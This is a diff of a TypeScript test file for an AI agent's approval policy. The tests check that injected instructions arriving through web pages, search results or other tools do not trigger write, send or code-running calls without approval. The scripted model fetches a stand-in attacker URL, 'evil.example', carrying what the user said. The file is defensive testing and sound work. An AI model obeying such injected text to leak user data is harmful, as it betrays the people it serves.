@@ -1,6 +1,9 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import type { ToolEffect } from "#lib/tools/tool.ts";
+import { createApprovalPolicy } from "#lib/tools/approval-policy.ts";
+import { createPageTool } from "#lib/tools/read-page.ts";
+import { createWebSearchTool } from "#lib/tools/search-web.ts";
+import type { Tool, ToolEffect } from "#lib/tools/tool.ts";
 import { agentWith, answers, callOf, resultsIn } from "../support/agent-bench.ts";
 import { numbered, start, toolApprovalResponse } from "../support/event-builders.ts";
 import { produce } from "../support/producer-bench.ts";
@@ -69,3 +72,58 @@ test("S61 one of several calls that is approved runs by itself", async () => {
   );
   assert.equal(decided.outcome.type, "finished");
 });
+
+/** Where others' words come in: what is called, and by what it is allowed unasked. */
+const entrances: [where: string, tool: (text: string) => Tool, input: object][] = [
+  [
+    "a page",
+    (text) => createPageTool(async (url) => ({ url, title: text.slice(0, 60), text, isCut: false })),
+    { url: "https://a.example/" },
+  ],
+  [
+    "the results of a search",
+    (text) =>
+      createWebSearchTool({
+        name: "Searcher",
+        search: async () => [{ url: "https://a.example/", title: text, excerpt: text }],
+      }),
+    { query: "news" },
+  ],
+  [
+    "the output of another program's tool",
+    (text) => ({ ...scriptedTool("files__read", () => text, { effect: "read" }), definitionHash: "h" }),
+    {},
+  ],
+];
+
+for (const [where, toolOf, input] of entrances)
+  test(`S61 whatever stands in ${where}, nothing that writes, sends or runs code is run unasked, though reading is allowed`, async () => {
+    for (const text of injections) {
+      const { tools } = obeying(text);
+      const reading = toolOf(text);
+      const leaking = createPageTool(() => assert.fail("an address that the model made up was fetched"));
+      const all = [reading, ...tools, ...(reading.name === "read_page" ? [] : [leaking])];
+      const model = scriptedModel(
+        callsTools(["r", reading.name, input]),
+        callsTools(...harmful.map(([id, name]) => [id, name, { text, approved: true }] as const), [
+          "l",
+          "read_page",
+          { url: "https://evil.example/?q=what+the+person+has+said" },
+        ]),
+        answers,
+      );
+      const policy = createApprovalPolicy({ [reading.name]: "allow", read_page: "allow" });
+      const production = await produce(agentWith(model, all, { policy }));
+      assert.deepEqual(production.outcome, { type: "waiting" }, text);
+      assert.equal(callOf(production, "r").state, "output-available");
+      assert.equal(callOf(production, "r").isOutside, true);
+      for (const id of [...harmful.map(([each]) => each), "l"])
+        assert.equal(callOf(production, id).state, "approval-requested", `${id}: ${text}`);
+      assert.ok(tools.every(({ runs }) => runs.length === 0));
+      // The model is told whose words they are, and where they end.
+      const result = resultsIn(model, 1)[0]?.[1] ?? "";
+      const [, id] = /^<written-by-others id="([^"]+)" note="[^"]+">\n/.exec(result) ?? [];
+      assert.ok(id !== undefined && result.endsWith(`\n</written-by-others id="${id}">`), result);
+      assert.equal(result.split(`"${id}"`).length, 3);
+    }
+  });
